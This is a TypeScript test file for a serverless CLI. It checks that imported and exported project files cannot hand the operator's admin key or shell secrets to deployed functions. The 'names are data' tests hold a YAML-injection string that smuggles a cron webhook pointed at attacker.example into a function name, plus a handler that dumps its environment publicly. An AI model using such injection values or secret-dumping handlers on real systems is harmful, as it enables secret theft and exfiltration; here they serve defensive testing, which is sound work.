/**
 * A project someone else wrote cannot read the operator's secrets, with the
 * real CLI against a real server started with an admin key. The operator's
 * shell holds that key in SWITCHYARD_ADMIN_KEY (the CLI authenticates with
 * it) and another secret; the projects carry a public route whose function
 * answers its whole environment and event.
 *
 * - import: `SWITCHYARD_ADMIN_KEY: ${ssm:/x}` (and `${env:SWITCHYARD_ADMIN_KEY}`,
 *   and SAM's `!GetAtt` / `!Ref` of a parameter without a default) are left
 *   unset and listed, never turned into `${env:}`; applying the import does
 *   not hand the key to the function.
 * - apply: `${env:}` of a variable the file does not allow is refused naming
 *   it and its line; a SWITCHYARD_ variable is refused even when listed, or
 *   passed with --env-from; the plan says which variables it reads.
 * - export: placeholders name their function, so applying an export fills
 *   a function's SWITCHYARD_ADMIN_KEY key from its own placeholder, not from
 *   the operator's SWITCHYARD_ADMIN_KEY.
 * - names: a function or webhook name holding line breaks and a `webhooks:`
 *   block creates no webhook through import or export and apply.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { killLeftoverClis, runCliToEnd, writeProject } from '../helpers/cli.js';
import { startService, type RunningService } from '../helpers/service.js';

const ADMIN_KEY = 'admin-key-a-project-must-never-see-0123456789';
const OTHER_SECRET = 'operator-shell-secret-9876';
const AUTH = { authorization: `Bearer ${ADMIN_KEY}` };
/** The operator's shell: the admin key (the CLI uses it) and another secret. */
const SHELL = { SWITCHYARD_ADMIN_KEY: ADMIN_KEY, OPERATOR_SECRET: OTHER_SECRET };

const DUMP = 'exports.handler = async (event) => ({ statusCode: 200, body: JSON.stringify({ env: process.env, event }) });\n';

let svc: RunningService;
let root: string;

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'switchyard-secrets-'));
  svc = await startService({ env: { SWITCHYARD_ADMIN_KEY: ADMIN_KEY } });
}, 60_000);

afterAll(async () => {
  killLeftoverClis();
  await svc?.stop();
  rmSync(root, { recursive: true, force: true });
});

const cli = (args: string[], env: Record<string, string> = {}) => runCliToEnd(args, { SWITCHYARD_URL: svc.url, NO_COLOR: '1', ...SHELL, ...env });

const project = (name: string, files: Record<string, string>) => writeProject(root, name, files);

/** GET on a route of an API by name, unauthenticated: what the public sees. */
async function publicGet(apiName: string, path: string): Promise<{ status: number; text: string }> {
  const apis = (await svc.request('GET', '/api/apis?limit=1000', undefined, AUTH)).json as Array<{ name: string; invokeUrl: string }>;
  const api = apis.find((a) => a.name === apiName);
  if (!api) throw new Error(`no API ${apiName}`);
  const res = await fetch(`${api.invokeUrl}${path}`);
  return { status: res.status, text: await res.text() };
}

describe('import then apply', () => {
  it('serverless.yml: values only AWS resolves are left unset and listed; the admin key never reaches the function', async () => {
    const dir = project('sls', {
      'serverless.yml': `service: leak
provider:
  name: aws
  environment:
    SWITCHYARD_ADMIN_KEY: \${ssm:/x}
    ADMIN: \${env:SWITCHYARD_ADMIN_KEY}
    STAGE: test
functions:
  dump:
    handler: dump.handler
    environment:
      SECRET: \${env:OPERATOR_SECRET}
    events:
      - httpApi: 'GET /env'
`,
      'dump.js': DUMP,
    });
    const imported = await cli(['import', join(dir, 'serverless.yml')]);
    expect(imported.code, imported.stderr).toBe(0);
    expect(imported.stdout).toContain('provider.environment.SWITCHYARD_ADMIN_KEY: ${ssm:/x}');
    expect(imported.stdout).toMatch(/provider\.environment\.ADMIN: \$\{env:SWITCHYARD_ADMIN_KEY\} \(SWITCHYARD_ variables/);
    expect(imported.stdout).toContain('--env-from OPERATOR_SECRET');
    const yaml = readFileSync(join(dir, 'switchyard.yaml'), 'utf8');
    // Listed in the file as a comment; the function's env holds only what resolved and what the file says it reads.
    expect(yaml).toContain('#   - provider.environment.SWITCHYARD_ADMIN_KEY: ${ssm:/x}');
    expect((parseYaml(yaml) as { functions: Record<string, { env: unknown }> }).functions['leak-dump'].env).toEqual({ STAGE: 'test', SECRET: '${env:OPERATOR_SECRET}' });

    // Applied from the operator's shell without allowing anything: refused, naming the variable and its line.
    const refused = await cli(['apply', '-f', dir]);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(/switchyard\.yaml:\d+:\d+: functions\.leak-dump\.env\.SECRET: \$\{env:OPERATOR_SECRET\} reads a variable the project does not allow/);
    expect((await svc.request('GET', '/api/functions/leak-dump', undefined, AUTH)).status).toBe(404);

    // The admin key cannot be allowed at all.
    const flagged = await cli(['apply', '-f', dir, '--env-from', 'OPERATOR_SECRET,SWITCHYARD_ADMIN_KEY']);
    expect(flagged.code).toBe(2);
    expect(flagged.stderr).toContain('--env-from SWITCHYARD_ADMIN_KEY is refused');

    const applied = await cli(['apply', '-f', dir, '--env-from', 'OPERATOR_SECRET']);
    expect(applied.code, applied.stderr).toBe(0);
    // Said before the plan and its changes.
    const reads = applied.stderr.indexOf('Reads the environment variables OPERATOR_SECRET');
    expect(reads).toBeGreaterThanOrEqual(0);
    expect(reads).toBeLessThan(applied.stderr.indexOf('created function leak-dump'));
    const answer = await publicGet('leak', '/env');
    expect(answer.status, answer.text).toBe(200);
    expect(JSON.parse(answer.text).env).toMatchObject({ STAGE: 'test', SECRET: OTHER_SECRET });
    expect(answer.text).not.toContain(ADMIN_KEY);
  });

  it('SAM template: !GetAtt and !Ref of a parameter without a default are left unset; the admin key never reaches the function', async () => {
    const dir = project('sam', {
      'template.yaml': `Transform: AWS::Serverless-2016-10-31
Parameters:
  AdminKey: { Type: String }
Resources:
  SamDump:
    Type: AWS::Serverless::Function
    Properties:
      Handler: dump.handler
      Environment:
        Variables:
          SWITCHYARD_ADMIN_KEY: !Ref AdminKey
          TABLE: !GetAtt Table.Arn
          PLAIN: plain
      Events:
        Env: { Type: HttpApi, Properties: { Path: /env, Method: GET, ApiId: !Ref SamApi } }
`,
      'dump.js': DUMP,
    });
    const imported = await cli(['import', join(dir, 'template.yaml'), '--json']);
    expect(imported.code, imported.stderr).toBe(0);
    expect(JSON.parse(imported.stdout).unresolved.map((u: { key: string }) => u.key)).toEqual(['SWITCHYARD_ADMIN_KEY', 'TABLE']);
    expect(readFileSync(join(dir, 'switchyard.yaml'), 'utf8')).not.toMatch(/^[^#]*\$\{env:/m);
    const applied = await cli(['apply', '-f', dir], { TABLE: 'operator-table' });
    expect(applied.code, applied.stderr).toBe(0);
    const answer = await publicGet('sam-SamApi', '/env');
    expect(answer.status, answer.text).toBe(200);
    expect(JSON.parse(answer.text).env).toMatchObject({ PLAIN: 'plain' });
    expect(JSON.parse(answer.text).env).not.toHaveProperty('TABLE');
    expect(answer.text).not.toContain(ADMIN_KEY);
  });

  it('a project file that names SWITCHYARD_ADMIN_KEY, even under env_from, is refused and creates nothing', async () => {
    const dir = project('named-key', {
      'switchyard.yaml': `env_from: [SWITCHYARD_ADMIN_KEY]
functions:
  named-key:
    file: dump.js
    env:
      K: \${env:SWITCHYARD_ADMIN_KEY}
`,
      'dump.js': DUMP,
    });
    const r = await cli(['apply', '-f', dir]);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/switchyard\.yaml:1:\d+: env_from\[0\]: SWITCHYARD_ADMIN_KEY is refused/);
    expect(r.stderr).toMatch(/switchyard\.yaml:6:\d+: functions\.named-key\.env\.K: \$\{env:SWITCHYARD_ADMIN_KEY\} is refused/);
    expect((await svc.request('GET', '/api/functions/named-key', undefined, AUTH)).status).toBe(404);
  });
});

describe('export then apply', () => {
  it('placeholders name the function: its SWITCHYARD_ADMIN_KEY key is filled from its own variable, not the admin key', async () => {
    const created = await svc.request(
      'POST',
      '/api/functions',
      { name: 'exp-dump', code: DUMP, env: { SWITCHYARD_ADMIN_KEY: 'its-own-value', DB_URL: 'db' } },
      AUTH,
    );
    expect(created.status, created.text).toBe(201);
    const api = await svc.request('POST', '/api/apis', { name: 'exp', basePath: '/exp', routes: [{ method: 'GET', path: '/env', function: 'exp-dump' }] }, AUTH);
    expect(api.status, api.text).toBe(201);

    const out = join(root, 'exported');
    const exported = await cli(['export', '-o', join(out, 'switchyard.yaml')]);
    expect(exported.code, exported.stderr).toBe(0);
    expect(exported.stdout).toContain('EXP_DUMP__SWITCHYARD_ADMIN_KEY');
    expect(exported.stdout).toContain('listed under env_from');
    const text = readFileSync(join(out, 'switchyard.yaml'), 'utf8');
    expect(text).toContain('SWITCHYARD_ADMIN_KEY: ${env:EXP_DUMP__SWITCHYARD_ADMIN_KEY}');
    expect(text).not.toMatch(/\$\{env:SWITCHYARD_/);

    // Applied as exported (its own env_from), from the operator's shell, with the placeholders set.
    const placeholders = Object.fromEntries(
      ((parseYaml(text) as { env_from: string[] }).env_from).map((name) => [name, name === 'EXP_DUMP__SWITCHYARD_ADMIN_KEY' ? 'from-the-export' : `value-of-${name}`]),
    );
    // The export holds the other tests' imported projects too, whose env its placeholders change: taken over.
    const applied = await cli(['apply', '-f', out, '--take-over'], placeholders);
    expect(applied.code, applied.stderr).toBe(0);
    const answer = await publicGet('exp', '/env');
    expect(JSON.parse(answer.text).env).toMatchObject({ SWITCHYARD_ADMIN_KEY: 'from-the-export' });
    expect(answer.text).not.toContain(ADMIN_KEY);
  });
});

describe('names are data', () => {
  const INJECTED = "x\nwebhooks:\n  pwned:\n    target_url: https://attacker.example/x\n    method: POST\n    payload_template: {}\n    cron: '* * * * *'\n#";

  async function webhookNames(): Promise<string[]> {
    const hooks = (await svc.request('GET', '/api/webhooks?limit=1000', undefined, AUTH)).json as Array<{ name: string }>;
    return hooks.map((h) => h.name);
  }

  it('import: a function name with a webhooks block creates no webhook', async () => {
    const dir = project('inject-import', {
      'serverless.yml': `service: inj\nfunctions:\n  ${JSON.stringify(INJECTED)}:\n    handler: dump.handler\n    events: [{ httpApi: 'GET /x' }]\n`,
      'dump.js': DUMP,
    });
    const imported = await cli(['import', join(dir, 'serverless.yml')]);
    expect(imported.code, imported.stderr).toBe(0);
    const applied = await cli(['apply', '-f', dir]);
    expect(applied.code, applied.stderr).toBe(0);
    expect(applied.stdout).not.toMatch(/^\+ webhook/m);
    expect(await webhookNames()).not.toContain('pwned');
  });

  it('export: a webhook name with a webhooks block stays one webhook', async () => {
    const hook = await svc.request(
      'POST',
      '/api/webhooks',
      { name: INJECTED.replace('pwned', 'pwned2'), target_url: 'https://example.com/h', method: 'POST', headers: { authorization: 'Bearer t' }, payload_template: {}, secret: 'generate' },
      AUTH,
    );
    expect(hook.status, hook.text).toBe(201);
    const out = join(root, 'exported-hooks');
    const exported = await cli(['export', '-o', join(out, 'switchyard.yaml')]);
    expect(exported.code, exported.stderr).toBe(0);
    const text = readFileSync(join(out, 'switchyard.yaml'), 'utf8');
    const secret = 'whsec_c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0';
    const env = Object.fromEntries(((parseYaml(text) as { env_from: string[] }).env_from).map((name) => [name, name.endsWith('_SECRET') ? secret : 'Bearer t']));
    const applied = await cli(['apply', '-f', out, '--dry-run', '--take-over'], env);
    expect(applied.code, applied.stderr).toBe(0);
    expect(applied.stdout).not.toMatch(/\+ webhook/);
    expect(await webhookNames()).not.toContain('pwned2');
  });
});
